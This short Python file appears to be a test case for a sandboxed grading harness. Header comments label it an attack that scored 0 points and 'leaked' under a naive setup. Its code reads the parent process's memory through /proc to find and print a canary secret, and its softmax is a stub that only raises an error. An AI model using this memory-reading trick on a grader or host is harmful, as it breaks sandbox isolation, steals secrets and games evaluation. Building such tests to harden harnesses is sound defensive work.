# attack: opens the memory of the process above it, to write there
# points: 0
# statuses: errored
# needs: full
# naive: leaked
import os

parent = os.getppid()
with open(f"/proc/{parent}/maps") as maps:
    for line in maps:
        if "[heap]" in line or "rw-p" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{parent}/mem", "rb", 0) as memory:
                memory.seek(start)
                text = memory.read(min(end - start, 2**28))
            found = text.find(b"CANARY" + b"-IN-MEMORY-")
            if found >= 0:
                print(text[found : found + 60])
                break


def softmax(logits, dim=-1):
    raise ValueError


log_softmax = softmax
